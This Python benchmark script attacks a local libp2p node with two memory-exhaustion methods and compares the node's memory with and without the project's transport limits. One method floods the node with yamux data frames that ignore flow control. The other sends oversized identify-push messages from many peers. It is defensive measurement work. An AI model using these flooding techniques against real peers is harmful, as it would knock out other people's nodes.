"""Node memory under two transport attacks, before and after issue 13's limits.

A node runs in its own process (``make_host``, an echo handler, and a handler that
accepts streams and never reads them); this process attacks it over loopback and reads
the node's VmRSS from /proc:

- ``yamux_push``: one peer opens a stream on the never-reading protocol and writes raw
  yamux DATA frames ignoring the receive window, ``--push-mib`` MiB in all.
- ``identify_push``: ``--peers`` fresh peers each connect, send one ~0.9 MiB
  identify-push message, and disconnect; RSS is read ``SETTLE_S`` later.

After each attack a fresh client runs an echo round trip (the node must still answer).
``before`` runs the node with ``meshnode.p2p.yamux_guard.install`` and
``meshnode.p2p.limits.install`` replaced by no-ops (py-libp2p 0.8.1's own behaviour);
``after`` is the node as built today. Writes bench/results/transport_memory.json.

Usage: python bench/transport_memory.py [--push-mib 256] [--peers 100]
"""

from __future__ import annotations

import argparse
import json
import logging
import os
import platform
import struct
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import trio
from libp2p.abc import IHost, INetStream
from libp2p.custom_types import TProtocol
from libp2p.identity.identify.pb.identify_pb2 import Identify
from libp2p.identity.identify_push.identify_push import ID_PUSH
from libp2p.peer.id import ID
from libp2p.utils.varint import encode_uvarint

from meshnode.identity import NodeIdentity
from meshnode.p2p import host as host_module
from meshnode.p2p.host import full_addrs, parse_peer_addr, running_host

RESULTS = Path(__file__).resolve().parent / "results" / "transport_memory.json"
ECHO = TProtocol("/meshnode-bench/echo/1")
SINK = TProtocol("/meshnode-bench/never-reads/1")
MIB = 1024 * 1024
SETTLE_S = 5.0  # after an attack, before RSS is read: frees and GC have happened
STEP_TIMEOUT_S = 30.0  # one attack step on loopback, under load


# ── the node process ─────────────────────────────────────────────────────────────────


async def _echo(stream: INetStream) -> None:
    await stream.write(await stream.read(64))
    await stream.close()


async def _never_read(stream: INetStream) -> None:
    await trio.sleep_forever()


async def serve(before: bool) -> None:
    if before:
        host_module.yamux_guard.install = lambda: None  # type: ignore[assignment]
        host_module.limits.install = lambda host: None  # type: ignore[assignment,return-value]
    async with running_host(NodeIdentity.generate()) as node:
        node.set_stream_handler(ECHO, _echo)
        node.set_stream_handler(SINK, _never_read)
        print(full_addrs(node)[0], flush=True)
        await trio.to_thread.run_sync(sys.stdin.read)  # until the parent closes stdin


# ── the attacker process ─────────────────────────────────────────────────────────────


def rss_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise RuntimeError("no VmRSS")


async def echo_ms(addr: str) -> float:
    info = parse_peer_addr(addr)
    async with running_host(NodeIdentity.generate()) as client:
        started = time.monotonic()
        with trio.fail_after(STEP_TIMEOUT_S):
            await client.connect(info)
            stream = await client.new_stream(info.peer_id, [ECHO])
            await stream.write(b"hi")
            assert await stream.read(64) == b"hi"
        return (time.monotonic() - started) * 1000


async def push_past_window(attacker: IHost, peer: ID, total: int) -> int:
    stream = await attacker.new_stream(peer, [SINK])
    muxed: Any = stream.muxed_conn
    sid = stream.muxed_stream.stream_id  # type: ignore[attr-defined]
    chunk = 64 * 1024
    frame = struct.pack("!BBHII", 0, 0, 0, sid, chunk) + b"\0" * chunk
    sent = 0
    try:
        while sent < total and not muxed.is_closed:
            await muxed._write_frame(frame)
            sent += chunk
    except Exception:  # the node reset the stream or closed the connection
        pass
    return sent


async def attack_yamux(addr: str, pid: int, push_mib: int) -> dict[str, Any]:
    info = parse_peer_addr(addr)
    rss_start = rss_mib(pid)
    peak = rss_start
    async with running_host(NodeIdentity.generate()) as attacker:
        with trio.fail_after(STEP_TIMEOUT_S):
            await attacker.connect(info)
        sent = 0
        started = time.monotonic()
        # One stream at a time, as many as it takes (a guarded node resets each stream).
        while sent < push_mib * MIB and time.monotonic() - started < 120:
            try:
                if not attacker.get_network().connections.get(info.peer_id):
                    await attacker.connect(info)
                sent += await push_past_window(attacker, info.peer_id, push_mib * MIB - sent)
            except Exception:
                await trio.sleep(0.1)
            peak = max(peak, rss_mib(pid))
        await trio.sleep(1.0)
        peak = max(peak, rss_mib(pid))
        held = rss_mib(pid)
        legit = await echo_ms(addr)
    return {
        "pushed_mib": round(sent / MIB, 1),
        "rss_start_mib": round(rss_start, 1),
        "rss_peak_mib": round(peak, 1),
        "rss_growth_while_attacker_connected_mib": round(held - rss_start, 1),
        "legit_echo_ms_after": round(legit, 1),
    }


async def attack_identify(addr: str, pid: int, peers: int) -> dict[str, Any]:
    info = parse_peer_addr(addr)
    bulky = Identify(protocols=[f"/junk/{i:06d}/" + "x" * 1000 for i in range(900)])
    body = bulky.SerializeToString()
    rss_start = rss_mib(pid)
    for _ in range(peers):
        async with running_host(NodeIdentity.generate()) as attacker:
            with trio.fail_after(STEP_TIMEOUT_S):
                await attacker.connect(info)
                stream = await attacker.new_stream(info.peer_id, [ID_PUSH])
                try:
                    await stream.write(encode_uvarint(len(body)) + body)
                    await stream.close()
                except Exception:  # the node refused it and reset the stream
                    pass
            await trio.sleep(0.05)
    await trio.sleep(SETTLE_S)
    held = rss_mib(pid)
    legit = await echo_ms(addr)
    return {
        "peers": peers,
        "push_bytes_each": len(body),
        "rss_start_mib": round(rss_start, 1),
        "rss_growth_after_peers_left_mib": round(held - rss_start, 1),
        "legit_echo_ms_after": round(legit, 1),
    }


def run_against_node(before: bool, attack: str, args: argparse.Namespace) -> dict[str, Any]:
    cmd = [sys.executable, __file__, "--serve"] + (["--before"] if before else [])
    node = subprocess.Popen(cmd, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert node.stdout is not None
        addr = node.stdout.readline().strip()
        time.sleep(0.5)
        if attack == "yamux_push":
            return trio.run(attack_yamux, addr, node.pid, args.push_mib)
        return trio.run(attack_identify, addr, node.pid, args.peers)
    finally:
        assert node.stdin is not None
        node.stdin.close()
        try:
            node.wait(timeout=15)
        except subprocess.TimeoutExpired:
            node.kill()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--serve", action="store_true", help=argparse.SUPPRESS)
    parser.add_argument("--before", action="store_true", help=argparse.SUPPRESS)
    parser.add_argument("--push-mib", type=int, default=256)
    parser.add_argument("--peers", type=int, default=100)
    args = parser.parse_args()
    logging.basicConfig(level=logging.CRITICAL)
    if args.serve:
        trio.run(serve, args.before)
        return
    results: dict[str, Any] = {}
    for attack in ("yamux_push", "identify_push"):
        for name in ("before", "after"):
            results.setdefault(attack, {})[name] = run_against_node(
                name == "before", attack, args
            )
            print(attack, name, results[attack][name], flush=True)
    RESULTS.parent.mkdir(parents=True, exist_ok=True)
    RESULTS.write_text(
        json.dumps(
            {
                "bench": "transport_memory",
                "machine": f"{platform.machine()} {platform.processor() or ''}".strip(),
                "cpus": os.cpu_count(),
                "command": "python bench/transport_memory.py "
                f"--push-mib {args.push_mib} --peers {args.peers}",
                "results": results,
            },
            indent=2,
        )
        + "\n"
    )
    print(f"wrote {RESULTS}")


if __name__ == "__main__":
    main()
